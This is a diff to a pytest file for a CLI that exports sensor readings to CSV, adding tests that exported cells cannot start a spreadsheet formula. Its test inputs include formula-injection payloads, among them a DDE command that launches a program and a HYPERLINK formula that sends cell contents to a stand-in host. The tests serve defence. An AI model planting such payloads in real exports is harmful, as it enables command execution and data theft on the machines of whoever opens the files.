@@ -3,19 +3,20 @@
 import csv
 import io
 import json
-import os
+import random
 import subprocess
-import sys
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from bus.messages import from_iso, to_iso
+from cli import csv_import, export
+from tests import command
 from tests.broker import Mosquitto
 from tests.client import Client
 from tests.ports import free_port
-from tests.statistician.asked import HOURS, ROOT, START, statistician
+from tests.statistician.asked import HOURS, START, statistician
 from tests.statistician.rig import MINUTE
 
 VOLTAGE, YIELD, CHARGE = "mppt.voltage", "mppt.yield_today", "mppt.charge_state"
@@ -34,21 +35,9 @@ def broker(folder: Path) -> Iterator[Mosquitto]:
 
 def boondock(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
     """Run the command as a user does."""
-    kept = {k: v for k, v in os.environ.items() if not k.startswith("BOONDOCK_")}
-    variables = {
-        "PYTHONPATH": str(ROOT),
-        "BOONDOCK_SECRETS": str(folder / "secrets"),
-        "BOONDOCK_CONFIG": str(folder / "boondock.toml"),
-    }
-    return subprocess.run(
-        [sys.executable, "-m", "cli", *arguments],
-        cwd=folder,
-        env=kept | variables,
-        capture_output=True,
-        text=True,
-        timeout=90,
-        check=False,
-    )
+    places = {"SECRETS": folder / "secrets", "CONFIG": folder / "boondock.toml"}
+    variables = {f"BOONDOCK_{name}": str(path) for name, path in places.items()}
+    return command.boondock(folder, *arguments, **variables)
 
 
 def exported(folder: Path, *arguments: str) -> str:
@@ -220,3 +209,92 @@ def test_a_file_that_is_wrong_is_refused_whole(folder: Path, text: str, said: st
     assert (done.returncode, done.stdout) == (1, "")
     assert said in done.stderr
     assert len(done.stderr.splitlines()) == 1
+
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    '=HYPERLINK("http://x/"&A1)',
+    "=cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+]
+FORMULAS += [
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1+a",
+    "\uff20x",
+    " =1+1",
+    "  @x",
+    "off;=1+1",
+    "off\t=1+1",
+    "off\n=1+1",
+    "a|-b",
+    "'=1",
+]
+BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+
+
+def through_csv(value: str) -> str:
+    """What another program reads of the cell."""
+    file = io.StringIO(newline="")
+    csv.writer(file).writerow([export.cell_of(value)])
+    ((cell,),) = csv.reader(io.StringIO(file.getvalue(), newline=""))
+    return cell
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_begins_a_formula(text: str) -> None:
+    cell = through_csv(text)
+    for separator in ";|\t\r\n":
+        for part in cell.split(separator):
+            assert not part.lstrip(" ").startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")), cell
+    assert cell[0] not in BEGINS
+    assert export.value_of(cell) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["off", "bulk", "10 %", "a-b", "-", "x=1", "2026-11-21", "Anna's", "'hello'", "ok; fine"]
+)
+def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
+    assert through_csv(text) == (f"'{text}" if text == "-" else text)
+    assert export.value_of(through_csv(text)) == text
+
+
+@pytest.mark.parametrize("value", [-1.5, 0.0, -0.0, 13.25, 1e-7, -1e22, None])
+def test_numbers_stay_numbers(value: float | None) -> None:
+    cell = str(export.cell_of(value))
+    assert not cell.startswith("'")
+    assert export.value_of(cell) == value
+
+
+@pytest.mark.parametrize(
+    "text", ["-1.5", "12", "1e5", "null", "", "'", "''", "'12", "'null", "nan", "-inf", " 7 "]
+)
+def test_a_text_that_looks_like_something_else_stays_a_text(text: str) -> None:
+    assert export.value_of(through_csv(text)) == text
+
+
+def test_every_text_comes_back() -> None:
+    dice = random.Random(7)  # noqa: S311 — the same texts in every run
+    for _ in range(20_000):
+        text = "".join(dice.choices("=+-@\t\r\n;|,' 1a\"null", k=dice.randrange(9)))
+        assert export.value_of(through_csv(text)) == text
+
+
+def test_a_unit_begins_no_formula_either(tmp_path: Path) -> None:
+    """It stands in the heading, and whoever describes a device says it."""
+    unit, file = "V;=1+1", tmp_path / "out.csv"
+    source = export.Series("van.volt", {"value": unit}, iter([]))
+    with file.open("w", encoding="utf-8", newline="") as opened:
+        export._write_csv(opened, [source], iter([]), export.STATES)
+    assert ";'=1+1" in file.read_text(encoding="utf-8")
+    file.write_text(file.read_text(encoding="utf-8") + "2026-11-21T10:00:00Z,1\n", encoding="utf-8")
+    assert [column.unit for column in csv_import.read_table(file).columns.values()] == [unit]
+
+
+def test_a_foreign_file_keeps_its_apostrophes() -> None:
+    assert export.value_of("'hello") == "'hello"
